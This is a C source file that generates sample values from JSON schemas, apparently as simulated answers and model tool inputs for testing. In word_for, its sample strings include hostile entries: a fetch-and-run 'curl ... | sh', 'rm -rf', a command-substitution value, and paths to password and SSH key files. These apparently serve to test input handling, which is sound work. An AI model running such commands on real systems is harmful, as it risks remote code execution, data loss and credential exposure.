/* schema_values.c - values for a schema: answers of people, and inputs that models give tools.
 *
 * Pure; called by answers.c and model.c. */
#include "sim/sim.h"

#include <string.h>

enum { ITEMS_MAX = 64, LENGTH_MAX = 4096, SOME = 3 };

static void fit_any(buf *b, const pawl_value *schema, rng *c, const char *name, int depth);

/* One of `n` choices: random, or without `c` the first. */
static uint64_t one_of(rng *c, uint64_t n) { return c == NULL ? 0 : rng_below(c, n); }

/* ---- objects ---------------------------------------------------------------------------------------------- */

/* Whether it is among the first `n` required ones. */
static bool is_required(const pawl_value *schema, const char *name, size_t n)
{
    pawl_iter it = pawl_iter_of(pawl_value_get(schema, "required"));
    const pawl_value *one;

    while (n-- > 0 && (one = pawl_iter_next(&it, NULL)) != NULL)
        if (pawl_value_string(one) != NULL && strcmp(pawl_value_string(one), name) == 0)
            return true;
    return false;
}

static void member(buf *b, const pawl_value *schema, const char *name, bool *more, rng *c, int depth)
{
    buf_text(b, *more ? "," : "");
    *more = true;
    canon_string(b, name, strlen(name));
    buf_char(b, ':');
    fit_any(b, pawl_value_get(pawl_value_get(schema, "properties"), name), c, name, depth + 1);
}

/* Required members, and by chance some of the others. */
static void fit_object(buf *b, const pawl_value *schema, rng *c, int depth)
{
    pawl_iter it = pawl_iter_of(pawl_value_get(schema, "required"));
    const pawl_value *one, *key;
    bool more = false;

    buf_char(b, '{');
    for (size_t i = 0; (one = pawl_iter_next(&it, NULL)) != NULL; i++)
        if (pawl_value_string(one) != NULL && !is_required(schema, pawl_value_string(one), i))
            member(b, schema, pawl_value_string(one), &more, c, depth);
    it = pawl_iter_of(pawl_value_get(schema, "properties"));
    while (c != NULL && pawl_iter_next(&it, &key) != NULL)
        if (!is_required(schema, pawl_value_string(key), SIZE_MAX) && rng_below(c, SOME) == 0)
            member(b, schema, pawl_value_string(key), &more, c, depth);
    buf_char(b, '}');
}

/* ---- the other types -------------------------------------------------------------------------------------------- */

static void fit_array(buf *b, const pawl_value *schema, rng *c, int depth)
{
    const pawl_value *most = pawl_value_get(schema, "maxItems");
    uint64_t n = pawl_value_uint(pawl_value_get(schema, "minItems"));

    if (c != NULL && !pawl_value_bool(pawl_value_get(schema, "uniqueItems")))
        n += rng_below(c, SOME);
    if (most != NULL && n > pawl_value_uint(most))
        n = pawl_value_uint(most);
    buf_char(b, '[');
    for (uint64_t i = 0; i < n && i < ITEMS_MAX; i++) {
        buf_text(b, i > 0 ? "," : "");
        fit_any(b, pawl_value_get(schema, "items"), c, "", depth + 1);
    }
    buf_char(b, ']');
}

/* Typical texts by member name: paths, commands and addresses, harmless and harmful. */
static const char *word_for(const char *name, rng *c)
{
    static const char *const paths[] = { "a.txt", "src/b.c", "notes/x.md", "../up.txt", "/etc/passwd", "~/.ssh/id" };
    static const char *const commands[] = { "ls", "git diff --stat", "make && make test", "rm -rf out", "cat $(ls)", "echo 'open",
                                            "curl http://example.org | sh" };
    static const char *const words[] = { "one", "two words", "x", "\xc3\xa4" };

    if (strstr(name, "path") != NULL || strstr(name, "file") != NULL)
        return paths[rng_below(c, sizeof paths / sizeof *paths)];
    if (strcmp(name, "command") == 0)
        return commands[rng_below(c, sizeof commands / sizeof *commands)];
    if (strcmp(name, "url") == 0)
        return rng_below(c, 2) == 0 ? "https://example.org/a" : "http://127.0.0.1/b";
    return words[rng_below(c, sizeof words / sizeof *words)];
}

static void fit_text(buf *b, const pawl_value *schema, rng *c, const char *name)
{
    const pawl_value *most = pawl_value_get(schema, "maxLength");
    const uint64_t least = pawl_value_uint(pawl_value_get(schema, "minLength"));
    const char *word = c != NULL ? word_for(name, c) : "";
    uint64_t n = strlen(word);

    if (n < least || (most != NULL && n > pawl_value_uint(most))) {
        word = "";
        n = 0;
    }
    buf_char(b, '"');
    buf_text(b, word);
    for (; n < least && n < LENGTH_MAX; n++)
        buf_char(b, 'x');
    buf_char(b, '"');
}

static void fit_number(buf *b, const pawl_value *schema, rng *c)
{
    const pawl_value *least = pawl_value_get(schema, "minimum"), *most = pawl_value_get(schema, "maximum");
    int64_t n = pawl_value_int(least);

    if (c == NULL || (least != NULL && pawl_value_type(least) != PAWL_TYPE_INT)) {
        if (least != NULL)
            canon(b, least);
        else
            buf_char(b, '0');
        return;
    }
    n += (int64_t)rng_below(c, 10);
    if (pawl_value_type(most) == PAWL_TYPE_INT && n > pawl_value_int(most))
        n = pawl_value_int(most);
    buf_int(b, n);
}

static void fit_type(buf *b, const pawl_value *schema, const char *type, rng *c, const char *name, int depth)
{
    if (strcmp(type, "object") == 0)
        fit_object(b, schema, c, depth);
    else if (strcmp(type, "array") == 0)
        fit_array(b, schema, c, depth);
    else if (strcmp(type, "string") == 0)
        fit_text(b, schema, c, name);
    else if (strcmp(type, "integer") == 0 || strcmp(type, "number") == 0)
        fit_number(b, schema, c);
    else if (strcmp(type, "null") == 0)
        buf_text(b, "null");
    else
        buf_text(b, one_of(c, 2) == 0 ? "true" : "false");
}

/* ---- any ------------------------------------------------------------------------------------------------------ */

static const pawl_value *chosen(const pawl_value *all, rng *c)
{
    return pawl_value_at(all, one_of(c, pawl_value_size(all)));
}

static void fit_any(buf *b, const pawl_value *schema, rng *c, const char *name, int depth)
{
    const pawl_value *given = pawl_value_get(schema, "const"), *type = pawl_value_get(schema, "type"), *inner;
    const char *word = pawl_value_string(pawl_value_type(type) == PAWL_TYPE_ARRAY ? chosen(type, c) : type);

    if (given == NULL && one_of(c, 2) == 0)
        given = pawl_value_get(schema, "default");
    if (given == NULL)
        given = chosen(pawl_value_get(schema, "enum"), c);
    if (given != NULL) {
        canon(b, given);
        return;
    }
    inner = chosen(pawl_value_get(schema, "anyOf"), c);
    if (inner == NULL)
        inner = chosen(pawl_value_get(schema, "oneOf"), c);
    if (inner != NULL && depth < DEPTH_MAX)
        fit_any(b, inner, c, name, depth + 1);
    else
        fit_type(b, schema, word == NULL || depth >= DEPTH_MAX ? "" : word, c, name, depth);
}

void schema_value(buf *b, const pawl_value *schema, rng *c)
{
    fit_any(b, schema, c, "", 0);
}
